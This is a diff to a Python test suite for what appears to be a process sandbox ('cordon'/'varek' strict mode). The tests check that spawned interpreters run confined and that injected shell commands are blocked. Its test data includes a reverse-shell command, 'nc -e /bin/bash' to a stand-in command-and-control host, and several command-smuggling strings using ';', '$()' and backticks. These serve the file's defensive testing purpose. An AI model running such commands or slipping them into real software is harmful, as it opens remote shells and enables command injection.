@@ -229,6 +229,7 @@ if __name__ == "__main__":
         lower = f"from cordon import Cordon, _varek_strict; _varek_strict.arm(Cordon(tier={TIER!r}))"
         rows = {"import os\nos.system('nc -e /bin/bash hostile-c2.net 4444')": ["Breach Prevented", "CORDON-2026-0001"],
                 f"import os, sys\nos.system('touch ' + {self.canary!r})\nopen({self.canary!r}, 'w')": ["Breach Prevented", "non-zero exit status 1"],
+                f"import os\nos.system('touch ' + {self.canary!r})": ["Breach Prevented", "execve_denied (/bin/sh)"],
                 "print('fine', 6 * 7)": ["fine 42"]}
         for code, words in rows.items():
             done = subprocess.run([sys.executable, "-B", "-"], input=example.replace("CODE", repr(code)) % lower, text=True,
@@ -238,17 +239,61 @@ if __name__ == "__main__":
                 self.assertIn(word, done.stdout)
             self.no_canary()
 
+    def strict(self, code):
+        """What a program says that has armed strict mode."""
+        lower = ("import os, subprocess, sys\nfrom cordon import Cordon, varek, _varek_strict\nvarek.enforce_strict_mode()\n"
+                 f"_varek_strict.arm(Cordon({BINARY!r}, tier={TIER!r}))\nP = sys.executable\nU = 'import os; print(os.getuid(), flush=True)'\n")
+        done = subprocess.run([sys.executable, "-B", "-"], input=lower + code, text=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=120,
+                              env=dict(os.environ, PYTHONPATH=os.pathsep.join(sys.path), XDG_STATE_HOME=self.path("state"), NOT_INSIDE="x"))
+        return done.stdout
+
     def test_strict(self):
         """what is no Python with -c is the host's own, as before"""
-        code = ("import subprocess, sys\nfrom cordon import Cordon, varek, _varek_strict\nvarek.enforce_strict_mode()\n"
-                f"_varek_strict.arm(Cordon({BINARY!r}, tier={TIER!r}))\n"
-                "print(subprocess.run(['/bin/echo', 'host'], capture_output=True, text=True).stdout, end='')\n"
-                "print(subprocess.check_output([sys.executable, '-c', 'import os; print(os.getuid())'], text=True), end='')\n"
-                "print(subprocess.run([sys.executable, '-I', '-c', 'import sys; print(sys.stdin.read(), sys.argv[1:]); sys.exit(3)', 'a'], input='in', text=True, stdout=subprocess.PIPE))\n"
-                "try: subprocess.run([sys.executable, '-c', 'while True: pass'], timeout=.5)\n"
-                "except subprocess.TimeoutExpired as e: print('late')\n")
-        done = subprocess.run([sys.executable, "-B", "-"], input=code, text=True, stdout=subprocess.PIPE, timeout=60,
-                              env=dict(os.environ, PYTHONPATH=os.pathsep.join(sys.path), XDG_STATE_HOME=self.path("state")))
-        lines = done.stdout.splitlines()
-        self.assertEqual((lines[0], lines[1], lines[3]), ("host", "1000", "late"))
+        said = self.strict("print(subprocess.run(['/bin/echo', 'host'], capture_output=True, text=True).stdout, end='')\n"
+                           "print(subprocess.check_output([sys.executable, '-c', 'import os; print(os.getuid())'], text=True), end='')\n"
+                           "print(subprocess.run([sys.executable, '-I', '-c', 'import sys; print(sys.stdin.read(), sys.argv[1:]); sys.exit(3)', 'a'], input='in', text=True, stdout=subprocess.PIPE))\n"
+                           "try: subprocess.run([sys.executable, '-c', 'while True: pass'], timeout=.5)\n"
+                           "except subprocess.TimeoutExpired as e: print('late', flush=True)\n"
+                           "subprocess.run('echo host | cat; echo $((1 + 1))', shell=True)\nos.system('echo host && true')\n"
+                           "open('x.py', 'w').write('print(1)')\nsubprocess.call([P, 'x.py', '-c', 'y'])\n".replace("x.py", self.path("x.py")))
+        lines = said.splitlines()
+        self.assertEqual((lines[:2], lines[3:]), (["host", "1000"], ["late", "host", "2", "host", "1"]), said)
         self.assertIn("returncode=3, stdout=\"in ['a']\\n\"", lines[2])
+
+    def test_strict_ways(self):
+        """however Python is started with -c: it is in the box, where nobody has this uid"""
+        self.assertNotEqual(os.getuid(), 1000)
+        for way in ("subprocess.run([P, '-c', U])", "subprocess.call([P, '-Ic', U])", "subprocess.check_call(['env', 'python3', '-X', 'dev', '-c' + U])",
+                    "subprocess.Popen(['python', '-B', '-c', U]).wait()", "subprocess.Popen(['x', '-c', U], executable=P).wait()",
+                    "print(subprocess.check_output([P, '-c', U], stdin=subprocess.DEVNULL).decode(), end='')", "print(subprocess.getoutput(f'{P} -c \"{U}\"'))",
+                    "subprocess.run(f\"{P} -c '{U}'\", shell=True)", "os.system(f'X=1 python3 -X dev -c \"{U}\"')", "subprocess.call([P, '-c', U], env={})", "print(os.popen(f'{P} -c \"{U}\"').read(), end='')",
+                    "os.spawnv(os.P_WAIT, P, ['p', '-c', U])", "os.spawnlp(os.P_WAIT, 'python3', 'p', '-c', U)", "os.waitpid(os.spawnve(os.P_NOWAIT, P, ['p', '-c', U], {}), 0)",
+                    "os.execv(P, ['p', '-c', U])", "os.execlp('python3', 'p', '-c', U)", "os.execle(P, 'p', '-c', U, {})",
+                    "os.waitpid(os.posix_spawn(P, ['p', '-c', U], {}), 0)", "os.waitpid(os.posix_spawnp('python3', ['p', '-c', U], os.environ), 0)",
+                    "import asyncio\nasync def f(): await (await asyncio.create_subprocess_exec(P, '-c', U)).wait()\nasyncio.run(f())"):
+            with self.subTest(way):
+                self.assertEqual(self.strict(way), "1000\n")
+
+    def test_strict_process(self):
+        """a process of it is one like any other: streams, its input, its status, its end"""
+        said = self.strict("p = subprocess.Popen([P, '-uc', 'import sys\\nfor l in sys.stdin: print(l.strip() * 2)\\nsys.exit(5)'], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)\n"
+                           "print(p.communicate('ab\\ncd\\n')[0].split(), p.returncode, p.args[0] == P)\n"
+                           "p = subprocess.Popen([P, '-c', 'print(1, flush=True)\\nwhile True: pass'], stdout=subprocess.PIPE)\n"
+                           "print(p.stdout.read(2)); p.kill(); p.wait(); print(len(os.listdir('/proc/self/fd')))\n"
+                           "with open('OUT', 'wb') as f: subprocess.run([P, '-c', 'print(7)'], stdout=f)\nprint(open('OUT').read(), os.system(f'{P} -c \"raise SystemExit(6)\"') >> 8)\n".replace("OUT", self.path("out")))
+        self.assertEqual(said, "['abab', 'cdcd'] 5 True\nb'1\\n'\n5\n7\n 6\n")
+
+    def test_strict_lines(self):
+        """a line that a shell would read more in is not run: code must not become a part of it"""
+        for line in ("python3 -c 'print(1)'; touch CANARY", "python3 -c \"$(touch CANARY)\"", "python3 -c `touch CANARY`", "cd / && python3 -I -c 'print(1)'",
+                     "X=$1 python3 -X dev -c 'print(1)'", "python3 -c 'unfinished"):
+            said = self.strict(f"for run in (os.system, os.popen, subprocess.getoutput):\n try: print(run({line.replace('CANARY', self.canary)!r}))\n"
+                               " except varek.KineticIntercept as e: print('stopped', flush=True)\n")
+            self.assertEqual(said, "stopped\n" * 3, line)
+            self.no_canary()
+
+    def test_strict_told(self):
+        """code that the host runs itself is told of, as in VAREK, and goes on"""
+        said = self.strict("seen = []\nvarek.subscribe_telemetry(lambda e, a: seen.append(e))\nprint(eval('1 + 1')); exec('x = 3'); print(x); os.system('true')\n"
+                           "print({'compile', 'exec', 'os.system'} <= set(seen))\n")
+        self.assertEqual(said, "2\n3\nTrue\n")
